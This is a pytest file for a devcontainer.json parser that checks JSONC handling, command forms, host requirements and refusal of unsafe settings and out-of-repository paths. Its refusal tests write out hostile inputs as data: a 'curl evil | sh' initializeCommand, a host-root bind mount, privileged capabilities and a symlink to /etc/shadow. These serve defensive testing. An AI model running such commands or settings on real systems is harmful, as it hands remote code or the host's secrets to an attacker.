"""devcontainer.json reading (server/devcontainer/parse.py and source.py): JSONC, every command
form, every refusal, and paths that leave the repository."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from server.devcontainer import source
from server.devcontainer.parse import (
    REFUSED,
    Build,
    Command,
    DevContainerInvalid,
    DevContainerRefused,
    HostRequirements,
    PortAttributes,
    loads,
    parse,
    strip_jsonc,
    unmet,
)
from server.devcontainer.ports import rows
from server.devcontainer.variables import env_of, substitute


def test_jsonc_comments_and_trailing_commas() -> None:
    text = """// a comment
    {
      /* block
         comment */ "image": "den/base:bookworm", // after a value
      "containerEnv": {"URL": "http://x//y", "S": "a /* not a comment */ b",},
      "forwardPorts": [3000, 8080, /* last */ ],
      "q": "a \\" quote, }",
    }"""
    data = loads(text)
    assert data["image"] == "den/base:bookworm"
    assert data["containerEnv"] == {"URL": "http://x//y", "S": "a /* not a comment */ b"}
    assert data["forwardPorts"] == [3000, 8080]
    assert data["q"] == 'a " quote, }'
    assert strip_jsonc('{"a": 1 // x\n}').count("\n") == 1  # line numbers kept


@pytest.mark.parametrize("text, where", [
    ('{"image": "x",, }', "line 1"),
    ('{\n"image": \n}', "line 3"),
    ("[1, 2]", "must be a JSON object"),
    ("", "not valid JSON"),
])
def test_malformed_json_says_where(text: str, where: str) -> None:
    with pytest.raises(DevContainerInvalid) as info:
        parse(text, where=".devcontainer/devcontainer.json")
    assert where in info.value.message
    assert info.value.status_code == 422


def test_not_utf8_and_too_large() -> None:
    with pytest.raises(DevContainerInvalid, match="not UTF-8"):
        parse(b'{"image": "\xff"}')
    with pytest.raises(DevContainerInvalid, match="larger than"):
        parse(b" " * (300 * 1024) + b"{}")


def test_command_forms() -> None:
    cfg = parse("""{
      "onCreateCommand": "make setup && echo ok",
      "postCreateCommand": ["npm", "ci"],
      "postStartCommand": {"server": "npm start", "watch": ["tsc", "-w"]},
    }""")
    assert cfg.on_create == (Command(name="onCreateCommand", shell="make setup && echo ok"),)
    assert cfg.post_create == (Command(name="postCreateCommand", argv=("npm", "ci")),)
    assert cfg.post_start == (Command(name="server", shell="npm start"),
                              Command(name="watch", argv=("tsc", "-w")))
    assert parse('{"postCreateCommand": ""}').post_create == ()
    for bad in ('{"postCreateCommand": 3}', '{"postCreateCommand": [1]}',
                '{"postCreateCommand": {"a": {"b": "c"}}}'):
        with pytest.raises(DevContainerInvalid, match="postCreateCommand"):
            parse(bad)


@pytest.mark.parametrize("key, value", [
    ("privileged", "true"), ("capAdd", '["SYS_ADMIN"]'), ("securityOpt", '["seccomp=unconfined"]'),
    ("runArgs", '["--privileged"]'), ("mounts", '["source=/,target=/host,type=bind"]'),
    ("workspaceMount", '"source=/etc,target=/workspace,type=bind"'), ("appPort", "[22]"),
    ("dockerComposeFile", '"compose.yml"'), ("init", "true"),
    ("initializeCommand", '"curl evil | sh"'),
])
def test_refused_keys_name_themselves(key: str, value: str) -> None:
    assert key in REFUSED
    with pytest.raises(DevContainerRefused) as info:
        parse(f'{{"image": "den/base:bookworm", "{key}": {value}}}')
    assert key in info.value.message and "--no-devcontainer" in info.value.message
    assert info.value.code == "devcontainer_refused"


def test_refusals_are_all_listed_and_empty_values_pass() -> None:
    with pytest.raises(DevContainerRefused) as info:
        parse('{"privileged": true, "runArgs": ["--net=host"], "capAdd": ["NET_ADMIN"]}')
    assert all(k in info.value.message for k in ("privileged", "runArgs", "capAdd"))
    assert parse('{"privileged": false, "runArgs": [], "mounts": []}').unused == ()


def test_features_are_refused_by_name() -> None:
    with pytest.raises(DevContainerRefused) as info:
        parse('{"features": {"ghcr.io/devcontainers/features/node:1": {}, '
              '"ghcr.io/devcontainers/features/go:1": {"version": "1.22"}}}')
    assert "ghcr.io/devcontainers/features/go:1, ghcr.io/devcontainers/features/node:1" \
        in info.value.message
    assert parse('{"features": {}}').unused == ()


def test_unused_keys_are_listed() -> None:
    cfg = parse("""{"image": "den/base:bookworm", "customizations": {"vscode": {}},
                    "shutdownAction": "none", "build": null,
                    "portsAttributes": {"3000": {"label": "web", "onAutoForward": "notify"},
                                        "8000-8010": {"label": "range"}},
                    "hostRequirements": {"cpus": 1, "other": 1}}""")
    assert cfg.unused == ("customizations", "shutdownAction",
                          "portsAttributes.3000.onAutoForward",
                          "portsAttributes.8000-8010 (only single port numbers are acted on)",
                          "hostRequirements.other")
    assert cfg.ports == {3000: PortAttributes(label="web")}


def test_build_and_image() -> None:
    cfg = parse('{"build": {"dockerfile": "Dockerfile", "context": "..", '
                '"args": {"V": "1"}, "target": "dev", "cacheFrom": "x"}}')
    assert cfg.build == Build(dockerfile="Dockerfile", context="..", args={"V": "1"},
                              target="dev")
    assert cfg.unused == ("build.cacheFrom",)
    assert parse('{"dockerFile": "D"}').build == Build(dockerfile="D")
    with pytest.raises(DevContainerInvalid, match="both image and build"):
        parse('{"image": "a", "build": {"dockerfile": "D"}}')
    with pytest.raises(DevContainerInvalid, match="needs a dockerfile"):
        parse('{"build": {"context": "."}}')
    with pytest.raises(DevContainerInvalid, match=r"build\.args"):
        parse('{"build": {"dockerfile": "D", "args": {"V": 1}}}')


def test_env_users_folder_and_ports() -> None:
    cfg = parse("""{"containerEnv": {"A": "1", "N": 2}, "remoteEnv": {"B": "x"},
                    "remoteUser": "root", "workspaceFolder": "/workspace/api",
                    "forwardPorts": [3000],
                    "portsAttributes": {"3000": {"label": "web", "visibility": "public"}}}""")
    assert cfg.container_env == {"A": "1", "N": "2"} and cfg.remote_env == {"B": "x"}
    assert (cfg.remote_user, cfg.container_user) == ("root", "dev")
    assert cfg.workspace_folder == "/workspace/api"
    assert rows(cfg, public_allowed=True) == {3000: PortAttributes(label="web", share="public")}
    assert rows(cfg, public_allowed=False) == {3000: PortAttributes(label="web", share="users")}
    for bad, what in [('{"remoteUser": "vscode"}', "remoteUser"),
                      ('{"containerEnv": {"A B": "1"}}', "invalid variable name"),
                      ('{"forwardPorts": ["db:5432"]}', "forwardPorts"),
                      ('{"forwardPorts": [70000]}', "forwardPorts"),
                      ('{"portsAttributes": {"3000": {"visibility": "world"}}}', "visibility")]:
        with pytest.raises(DevContainerInvalid, match=what):
            parse(bad)


def test_host_requirements() -> None:
    host = parse('{"hostRequirements": {"cpus": 4, "memory": "8gb", "storage": "1.5tb", '
                 '"gpu": true}}').host
    assert host == HostRequirements(cpus=4.0, memory_mb=8192, storage_gb=1536, gpus=1)
    assert unmet(host, cpus=4, memory_mb=8192, disk_gb=1536, gpus=1) == []
    missing = unmet(host, cpus=2, memory_mb=1024, disk_gb=10, gpus=0)
    assert [m.split(" (")[0] for m in missing] == ["4 CPUs", "8192 MB of memory",
                                                   "1536 GB of disk", "1 GPU(s)"]
    assert parse('{"hostRequirements": {"gpu": "optional"}}').host.gpus is None
    with pytest.raises(DevContainerInvalid, match="memory"):
        parse('{"hostRequirements": {"memory": "lots"}}')


# --- paths in the (untrusted) repository ----------------------------------------------------

def test_find_prefers_the_folder_and_refuses_links_out(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    (repo / ".devcontainer").mkdir(parents=True)
    assert source.find(repo) is None
    (repo / ".devcontainer.json").write_text('{"image": "b"}')
    assert source.find(repo) == source.Found(".devcontainer.json", b'{"image": "b"}')
    (repo / ".devcontainer" / "devcontainer.json").write_text('{"image": "a"}')
    assert source.find(repo) == source.Found(".devcontainer/devcontainer.json",
                                             b'{"image": "a"}')
    secret = tmp_path / "secret.json"
    secret.write_text('{"image": "host"}')
    (repo / ".devcontainer" / "devcontainer.json").unlink()
    os.symlink(secret, repo / ".devcontainer" / "devcontainer.json")
    with pytest.raises(DevContainerRefused, match="outside the repository"):
        source.find(repo)
    (repo / ".devcontainer" / "devcontainer.json").unlink()
    os.symlink("/dev/zero", repo / ".devcontainer" / "devcontainer.json")
    with pytest.raises(DevContainerRefused, match="outside the repository"):
        source.find(repo)


def test_context_outside_the_repository_is_refused(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    os.symlink(tmp_path, repo / "up")
    for ctx in ("..", "/etc", "up", "up/repo"):
        if ctx == "up/repo":  # a link that leads back inside is fine
            source.context_tar(repo, ctx, dockerfile=b"FROM x", out=None, max_bytes=1 << 20)
            continue
        with pytest.raises(DevContainerRefused):
            source.context_tar(repo, ctx, dockerfile=b"FROM x", out=None, max_bytes=1 << 20)


def test_context_tar_keeps_links_as_links_and_hashes_content(tmp_path: Path) -> None:
    import tarfile

    repo = tmp_path / "repo"
    (repo / "src").mkdir(parents=True)
    (repo / ".git").mkdir()
    (repo / ".git" / "config").write_text("[core]")
    (repo / "src" / "a.txt").write_text("a")
    os.symlink("/etc/shadow", repo / "src" / "shadow")
    out = tmp_path / "ctx.tar"
    first = source.context_tar(repo, ".", dockerfile=b"FROM x", out=out, max_bytes=1 << 20)
    with tarfile.open(out) as tar:
        members = {m.name: m for m in tar.getmembers()}
    assert set(members) == {"src", "src/a.txt", "src/shadow", source.DOCKERFILE_NAME,
                            ".dockerignore"}
    assert members["src/shadow"].issym() and members["src/shadow"].linkname == "/etc/shadow"
    assert first == source.context_tar(repo, ".", dockerfile=b"FROM x", out=None,
                                       max_bytes=1 << 20)
    (repo / "src" / "a.txt").write_text("b")
    assert first != source.context_tar(repo, ".", dockerfile=b"FROM x", out=None,
                                       max_bytes=1 << 20)
    with pytest.raises(DevContainerInvalid, match="larger than"):
        source.context_tar(repo, ".", dockerfile=b"FROM x", out=None, max_bytes=0)


def test_base_images() -> None:
    text = """ARG BASE=den/base:bookworm
    FROM ${BASE} AS build
    RUN make
    FROM --platform=linux/amd64 den/workspace:latest
    COPY --from=build /out /out
    FROM build AS again
    FROM scratch
    """
    assert source.base_images(text, {}) == ["den/base:bookworm", "den/workspace:latest"]
    assert source.base_images(text, {"BASE": "den/other:1"})[0] == "den/other:1"


def test_variables_never_read_the_host() -> None:
    image = {"PATH": "/usr/bin", "HOME": "/root"}
    assert substitute("${localWorkspaceFolderBasename}|${containerWorkspaceFolder}|"
                      "${localEnv:HOME}|${localEnv:X:fallback}|${env:USER}|${containerEnv:HOME}|"
                      "${containerEnv:NOPE:d}|${devcontainerId}",
                      folder="/workspace/api", container_env=image) == (
        "api|/workspace/api||fallback||/root|d|${devcontainerId}")
    assert env_of(image, {"PATH": "${containerEnv:PATH}:/a"}, {"PATH": "${containerEnv:PATH}:/b"},
                  folder="/workspace/api") == {"PATH": "/usr/bin:/a:/b"}
